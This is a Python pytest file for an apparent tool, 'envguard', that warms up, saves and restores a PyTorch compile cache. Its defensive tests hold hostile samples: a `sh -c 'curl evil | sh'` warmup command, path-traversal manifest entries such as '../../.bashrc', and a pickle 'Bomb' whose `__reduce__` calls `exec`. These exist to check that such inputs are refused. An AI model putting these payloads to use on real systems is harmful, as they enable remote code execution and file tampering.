"""warmup and cache save and load, with real folders and stores; only torch is left out."""

from __future__ import annotations

import pickle
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import BinaryIO

import pytest

from envguard.adapters.cache.folders import CacheFolders, beside
from envguard.adapters.cache.place import Place
from envguard.adapters.cache.sections import cache_and_keys
from envguard.adapters.store import DirectoryStore
from envguard.errors import (
    CacheUnsafeError,
    EnvguardError,
    NotTrustedError,
    ObjectCorruptError,
    ObjectMissingError,
    UsageError,
    WarmupFailedError,
)
from envguard.formats import cache_manifest
from envguard.formats.lockfile import lock_id, read_lock, write_lock
from envguard.model.cache import CacheFactors, KeySource
from envguard.model.cache_files import CachedFile
from envguard.model.cache_prediction import predict
from envguard.model.facts import Facts, FileFact, Gpu
from envguard.model.lock import Lock
from envguard.model.observed import Absent, Value
from envguard.model.target import Layout, Level, Target
from envguard.model.warm_run import Lookup, Process, Ran, Start
from envguard.model.warmup import Bypass, FlexAttention, Launch, Recipe, Warmup
from envguard.operations.cache_archive import Saved, load, save
from envguard.operations.cache_back import BringBack
from envguard.operations.warmup import Warmed, recipe_of, warmup
from envguard.ports import Baseline, Progress
from tests.adapters.cache.world import autograd_entry, graph_key, put
from tests.builders import digest, facts
from tests.fakes.prober import layout
from tests.fakes.warmer import SaidWarmer, compiles

GPUS = Value((Gpu(0, "H200", "9.0", 1), Gpu(1, "H200", "9.0", 1)))
FACTORS = Value(CacheFactors(torch_key=digest("torch").hex, triton_key=digest("triton").hex))
FLEX = Recipe(workload=FlexAttention((128,)))
TARGET = Target(Path("/env/bin/python"), "test")


class Nobody:
    """Progress that is told to nobody."""

    def step(self, what: str, done: int, total: int | None, unit: str = "") -> None:
        """Nothing."""


@dataclass
class CacheProber:
    """Facts as told, but for the cache, which is really looked at."""

    folder: Path
    said: Facts

    def layout(self, target: Target) -> Layout:
        return layout()

    def facts(self, target: Target, level: Level, *, baseline: Baseline, progress: Progress) -> Facts:
        found, keys = cache_and_keys(Place(self.folder, "test", self.folder.parent / "triton"), {}, texts=True)
        return replace(self.said, cache=found, keys=keys)

    def content(self, layout: Layout, fact: FileFact) -> BinaryIO:
        raise OSError


@dataclass
class World:
    """A lock, a store, a cache of the lock's own."""

    root: Path
    lock: Lock
    store: DirectoryStore
    caches: CacheFolders
    warmer: SaidWarmer
    seen: Facts

    @property
    def own(self) -> Path:
        """The inductor folder of the lock's own cache."""
        return self.caches.own(self.lock.name, lock_id(self.lock)).inductor

    @property
    def prober(self) -> CacheProber:
        return CacheProber(self.own, self.seen)

    def warm(self, recipe: Recipe = FLEX, *devices: str, leave: bool = True, update: bool = False) -> Warmed:
        warmed = warmup(
            self.lock,
            TARGET,
            recipe=recipe,
            leave=leave,
            devices=devices,
            place=None,
            update=update,
            prober=self.prober,
            warmer=self.warmer,
            caches=self.caches,
            store=self.store,
            progress=Nobody(),
        )
        if warmed.lock is not None:
            self.lock = read_lock(write_lock(warmed.lock), "test")
        return warmed

    def save(self) -> Saved:
        place = self.caches.own(self.lock.name, lock_id(self.lock))
        saved = save(place, self.lock, caches=self.caches, store=self.store, progress=Nobody())
        self.lock = replace(self.lock, cache_manifest=saved.manifest)
        return saved

    def load(self, to: Path | None = None, distrust: str | None = None):  # type: ignore[no-untyped-def]
        place = beside(to) if to else self.caches.own(self.lock.name, lock_id(self.lock))
        return load(
            self.lock,
            place,
            distrust=distrust,
            observed=self.seen,
            caches=self.caches,
            store=self.store,
            progress=Nobody(),
        )

    def bring(self, *, distrust: str | None = None, leave: bool = False) -> tuple[str, bool]:
        by = BringBack(distrust, leave, self.prober, self.caches, self.warmer, self.store, Nobody())
        brought = by.bring(self.lock, TARGET)
        return "\n".join(brought.notes), brought.failed


@pytest.fixture
def world(tmp_path: Path) -> World:
    said = facts(gpus=GPUS, factors=FACTORS, keys=Absent(), cache=Absent())
    store = DirectoryStore(tmp_path / "store")
    store.put(b"")
    caches = CacheFolders(tmp_path / "caches", store.root)
    return World(tmp_path, Lock("good", said), store, caches, SaidWarmer(), said)


def fx(number: int) -> str:
    return f"fxgraph/{graph_key(number)}"


class TestWarmup:
    """Twice, and then the lock knows the keys."""

    def test_each_device_by_itself_and_the_lock_records_it(self, world: World) -> None:
        warmed = world.warm()
        assert warmed.exit_code == 0
        assert [start.devices for start in world.warmer.starts] == [("cuda:0",), ("cuda:1",)] * 2
        assert [start.rank for start in world.warmer.starts] == [0, 1, 0, 1]
        keys = world.lock.facts.keys
        assert isinstance(keys, Value)
        assert keys.value.source is KeySource.WARMUP
        assert (keys.value.of("cuda:0"), keys.value.of("cuda:1")) == ((fx(1),), (fx(2),))
        assert world.lock.warmup == Warmup(
            replace(FLEX, devices=("cuda:0", "cuda:1")), (), (("cuda:0", 1), ("cuda:1", 1)), True
        )
        assert (
            predict(
                world.lock.facts,
                world.prober.facts(TARGET, Level.FAST, baseline=lambda _: None, progress=Nobody()),
            ).hits
            == 2
        )

    def test_one_device_is_not_the_other(self, world: World) -> None:
        world.warm(FLEX, "cuda:0")
        seen = world.prober.facts(TARGET, Level.FAST, baseline=lambda _: None, progress=Nobody())
        (other,) = predict(world.lock.facts, seen, ["cuda:1"]).devices
        assert (other.recorded, other.hits) == (0, 0)
        world.warm(FLEX, "cuda:1")
        keys = world.lock.facts.keys
        assert isinstance(keys, Value)
        assert [entry.device for entry in keys.value.devices] == ["cuda:0", "cuda:1"], "devices add up"
        assert world.lock.warmup is not None
        assert world.lock.warmup.recipe.devices == ("cuda:0", "cuda:1")
        assert world.lock.warmup.graphs == (("cuda:0", 1), ("cuda:1", 1))

    def test_again_changes_nothing(self, world: World) -> None:
        world.warm()
        before, own = world.lock, world.own
        assert world.warm(recipe_of(world.lock, None)).exit_code == 0
        assert world.lock == before
        assert world.own == own, "the folder goes by the lock's id, which a warmup leaves"

    def test_stale_keys_in_the_folder_are_not_the_runs(self, world: World) -> None:
        autograd_entry(world.own, 5, {"x": 1})
        world.warm()
        keys = world.lock.facts.keys
        assert isinstance(keys, Value)
        assert keys.value.names == (fx(1), fx(2))

    def test_a_second_run_that_compiles_is_no_proof(self, world: World) -> None:
        def restless(start: Start, run: int) -> Ran:
            ran = compiles(start, run)
            put(start.place.inductor / "aotautograd" / ("a" + "bcd"[run] * 51) / "entry", {"run": run})
            lookup = Lookup("aotautograd", "miss", "aotautograd/a" + "bcd"[run] * 51)
            return replace(ran, processes=(Process(None, (*ran.processes[0].lookups, lookup)),))

        world.warmer.does = restless
        warmed = world.warm(FLEX, "cuda:0")
        assert warmed.exit_code == 1
        assert warmed.lock is None
        assert "1 lookups of the second run missed" in warmed.proof.failures[0]
        assert "added 1 new keys" in warmed.proof.failures[1]

    def test_dense_attention_is_no_warmup(self, world: World) -> None:
        world.warmer.does = lambda start, run: replace(compiles(start, run), warnings=("attention ran dense",))
        warmed = world.warm(FLEX, "cuda:0")
        assert (warmed.exit_code, warmed.proof.failures) == (1, ("attention ran dense",))

    def test_bypasses_are_recorded_and_held_against(self, world: World) -> None:
        number = 3

        def ddp(start: Start, run: int) -> Ran:
            ran = compiles(start, run)
            bypass = Lookup("aotautograd", "bypass", None, "DDP")
            return replace(ran, processes=(Process(0, (*ran.processes[0].lookups, *[bypass] * number)),))

        world.warmer.does = ddp
        ranks = Recipe(Launch.RANKS, ("torchrun", "x"), steps=3)
        assert world.warm(ranks, "cuda:0").exit_code == 0
        assert world.lock.warmup is not None
        assert world.lock.warmup.bypasses == (Bypass("rank 0", "aotautograd", "DDP", 3),)
        number = 2
        warmed = world.warm(recipe_of(world.lock, None))
        assert warmed.exit_code == 1
        assert "rank 0: no more bypassed, 3 × aotautograd: DDP" in warmed.proof.failures

    def test_keys_that_the_lock_records_and_the_recipe_does_not_make(self, world: World) -> None:
        world.warm(FLEX, "cuda:0")
        world.own.parent.rename(world.root / "gone")
        world.warmer.does = lambda start, run: compiles(replace(start, devices=("cuda:6",)), run)
        warmed = world.warm(FLEX, "cuda:0")
        # text says cuda:6, so these are another device's keys; the recorded ones of cuda:0 stay recorded
        assert warmed.lock is not None
        keys = warmed.lock.facts.keys
        assert isinstance(keys, Value)
        assert keys.value.of("cuda:0") == (fx(1),)

    def test_another_environment_leaves_the_lock_alone(self, world: World) -> None:
        world.warm(FLEX, "cuda:0")
        before = world.lock
        world.seen = replace(world.seen, factors=Value(replace(FACTORS.value, torch_key=digest("b").hex)))
        warmed = world.warm(FLEX, "cuda:0")
        assert (warmed.exit_code, warmed.lock, world.lock) == (1, None, before)
        assert warmed.changes[0].factor == "torch key"
        assert world.warm(FLEX, "cuda:0", update=True).exit_code == 0
        assert world.lock.facts.factors == world.seen.factors

    def test_also_where_only_found_keys_were_recorded(self, world: World) -> None:
        world.seen = replace(world.seen, factors=Value(replace(FACTORS.value, torch_key=digest("b").hex)))
        assert world.warm(FLEX, "cuda:0").exit_code == 1


def _ran(code: int | None = 0, *last: str) -> Callable[[Start, int], Ran]:
    return lambda start, run: Ran(code, 1.0, (), (), last)


BYPASSES = Ran(0, 1.0, (Process(None, (Lookup("aotautograd", "bypass", None, "a ScriptObject"),)),))
FAILURES: dict[str, tuple[Callable[[Start, int], Ran], str]] = {
    "it fails": (_ran(1, "x", "RuntimeError: no CUDA"), "failed on cuda:0 (exit 1): RuntimeError: no CUDA"),
    "it is killed": (_ran(-9), "failed on cuda:0 (signal 9): it said nothing"),
    "it never ends": (_ran(None, "step 5"), "did not end within 1800 s on cuda:0, and was ended; last: step 5"),
    "it compiles nothing": (_ran(), "the recipe compiled nothing"),
    "all is bypassed": (lambda start, run: BYPASSES, "every graph bypasses the cache"),
}


@pytest.mark.parametrize(("does", "told"), FAILURES.values(), ids=FAILURES.keys())
def test_a_warmup_that_fails_is_told(world: World, does: Callable[[Start, int], Ran], told: str) -> None:
    world.warmer.does = does
    with pytest.raises(WarmupFailedError) as caught:
        world.warm(FLEX, "cuda:0")
    assert told in caught.value.message
    assert caught.value.exit_code == 3


def test_a_device_that_is_not_there(world: World) -> None:
    with pytest.raises(WarmupFailedError, match="there is no cuda:5, cuda:6: this machine has cuda:0, cuda:1"):
        world.warm(FLEX, "cuda:5", "cuda:6", "cuda:0")
    world.seen = replace(world.seen, gpus=Absent())
    with pytest.raises(WarmupFailedError, match="there is no cuda:0: no GPU is seen here"):
        world.warm(FLEX, "cuda:0")
    assert world.warmer.starts == []


def test_a_locks_command_needs_leave(world: World) -> None:
    command = Recipe(command=("sh", "-c", "curl evil | sh"))
    for recipe in (command, Recipe(workload=FlexAttention((1,), score_mod="os:system"))):
        with pytest.raises(NotTrustedError) as caught:
            world.warm(recipe, leave=False)
        assert "--run-warmup" in str(caught.value.hint)
    with pytest.raises(NotTrustedError, match="sh -c 'curl evil"):
        world.warm(command, leave=False)
    assert world.warmer.starts == []
    assert world.warm(FLEX, leave=False).exit_code == 0


def test_no_recipe() -> None:
    with pytest.raises(UsageError, match="records no warmup"):
        recipe_of(Lock("x", Facts()), None)


def test_the_place_must_be_private(world: World) -> None:
    world.own.mkdir(parents=True)
    world.own.chmod(0o777)
    with pytest.raises(CacheUnsafeError):
        world.warm()


class TestSaveAndLoad:
    """Bytes into the store, and back."""

    def test_there_and_back(self, world: World) -> None:
        world.warm()
        saved = world.save()
        assert (saved.files, saved.missing, saved.left) == (2, (), ())
        world.own.parent.rename(world.root / "gone")
        done = world.load()
        assert (done.files, done.unchanged) == (2, False)
        seen = world.prober.facts(TARGET, Level.FAST, baseline=lambda _: None, progress=Nobody())
        assert predict(world.lock.facts, seen).hits == 2
        assert world.load().unchanged

    def test_only_the_locks_keys(self, world: World) -> None:
        world.warm()
        autograd_entry(world.own, 5, {"stale": 1})
        saved = world.save()
        assert saved.files == 2
        assert dict(saved.left) == {"entries of keys that the lock doesn't record": 1}

    def test_the_same_cache_has_one_manifest(self, world: World) -> None:
        world.warm()
        assert world.save().manifest == world.save().manifest

    def test_what_is_not_whole_is_told(self, world: World) -> None:
        world.warm()
        (entry,) = world.own.glob(f"fxgraph/*/{graph_key(2)}/entry")
        entry.write_bytes(entry.read_bytes()[:-5])
        saved = world.save()
        assert saved.missing == (fx(2),)
        assert dict(saved.left)["files that changed, or were not whole"] == 1

    def test_nothing_to_save(self, world: World) -> None:
        world.own.mkdir(parents=True, mode=0o700)
        with pytest.raises(EnvguardError, match="nothing to save"):
            world.save()

    def test_without_trust_nothing_lands(self, world: World) -> None:
        world.warm()
        world.save()
        with pytest.raises(NotTrustedError, match=r"a cache is code.*; the lock is in no git repository"):
            world.load(world.root / "to", distrust="the lock is in no git repository")
        assert not (world.root / "to").exists()

    def test_a_flipped_byte_in_the_store(self, world: World) -> None:
        world.warm()
        saved = world.save()
        path = world.store.path(sorted(saved.objects)[0])
        path.chmod(0o644)
        content = bytearray(path.read_bytes())
        content[3] ^= 1
        path.write_bytes(bytes(content))
        with pytest.raises(ObjectCorruptError):
            world.load(world.root / "to")
        assert list((world.root / "to").iterdir()) == []

    def test_an_object_that_is_gone(self, world: World) -> None:
        world.warm()
        saved = world.save()
        world.store.remove(sorted(saved.objects)[0])
        with pytest.raises(ObjectMissingError, match="lacks 1 of the cache's 2 files"):
            world.load(world.root / "to")
        world.store.remove(saved.manifest)
        with pytest.raises(ObjectMissingError):
            world.load(world.root / "to")
        assert not (world.root / "to").exists()

    @pytest.mark.parametrize("path", ["../../.bashrc", "sitecustomize.py", "fxgraph/../../x", "locks/x.lock"])
    def test_a_hostile_manifest(self, world: World, path: str) -> None:
        evil = world.store.put(b"evil")
        text = cache_manifest.dump([CachedFile(path, evil, 4)])
        world.lock = replace(world.lock, cache_manifest=world.store.put(text))
        with pytest.raises(EnvguardError, match="the saved cache's list is refused: not a name"):
            world.load(world.root / "to")
        world.lock = replace(world.lock, cache_manifest=evil)
        with pytest.raises(EnvguardError, match="not a manifest"):
            world.load(world.root / "to")
        assert not (world.root / "to").exists()

    def test_no_saved_cache(self, world: World) -> None:
        with pytest.raises(EnvguardError, match="names no saved cache"):
            world.load()

    def test_a_pickle_is_never_loaded(self, world: World, tmp_path: Path) -> None:
        canary = tmp_path / "canary"
        world.warm()
        (entry,) = world.own.glob(f"fxgraph/*/{graph_key(1)}/entry")
        entry.write_bytes(pickle.dumps(Bomb(str(canary))))
        world.save()
        world.load(world.root / "to")
        world.bring()
        assert not canary.exists()
        with pytest.raises(ZeroDivisionError):
            pickle.loads(entry.read_bytes())
        assert canary.exists(), "the canary sings when it is loaded"


class Bomb:
    """A pickle that writes a file when it is loaded."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return (exec, (f"open({self.path!r}, 'w').close(); 1/0",))


class TestBringBack:
    """The last step of a restore."""

    def test_from_the_store(self, world: World) -> None:
        world.warm()
        world.save()
        world.own.parent.rename(world.root / "gone")
        told, failed = world.bring()
        assert not failed
        assert "the compile cache was put back (a cache is code" in told
        assert "2 of 2 recorded keys would hit" in told
        assert f"export TORCHINDUCTOR_CACHE_DIR={world.own}" in told
        assert len(world.warmer.starts) == 4, "the warmup was not run again"

    def test_by_the_warmup_where_git_does_not_vouch(self, world: World) -> None:
        world.warm()
        world.save()
        world.own.parent.rename(world.root / "gone")
        told, failed = world.bring(distrust="the lock is not committed to git")
        assert not failed
        assert "was not put back: a cache is code" in told
        assert "the warmup was run" in told
        assert len(world.warmer.starts) == 8

    def test_a_command_is_told_and_not_run(self, world: World) -> None:
        world.warm(Recipe(command=("python", "train.py")))
        starts = len(world.warmer.starts)
        told, failed = world.bring()
        assert not failed
        assert "not run, since it is code that the lock names (python train.py): --run-warmup" in told
        assert len(world.warmer.starts) == starts
        assert "the warmup was run" in world.bring(leave=True)[0]

    def test_on_a_machine_without_these_gpus(self, world: World) -> None:
        world.warm()
        world.seen = replace(world.seen, gpus=Absent())
        told, failed = world.bring()
        assert not failed
        assert "the warmup was not run: cuda:0, cuda:1 is not on this machine" in told

    def test_one_that_fails(self, world: World) -> None:
        world.warm()
        world.warmer.does = _ran(1, "boom")
        told, failed = world.bring()
        assert failed
        assert "boom" in told

    def test_nothing_recorded(self, world: World) -> None:
        assert world.bring() == ("no warmup is recorded: the first start compiles what is missing", False)

    def test_what_is_planned(self, world: World) -> None:
        def planned(distrust: str | None = None, *, leave: bool = False) -> str:
            by = BringBack(distrust, leave, world.prober, world.caches, world.warmer, world.store, Nobody())
            return "\n".join(by.planned(world.lock))

        assert planned() == "no warmup is recorded: the first start compiles"
        world.warm()
        assert planned() == "the warmup is run"
        world.save()
        assert planned() == "the compile cache is put back from the store"
        assert planned("not committed") == "the compile cache is not put back: not committed; the warmup is run"
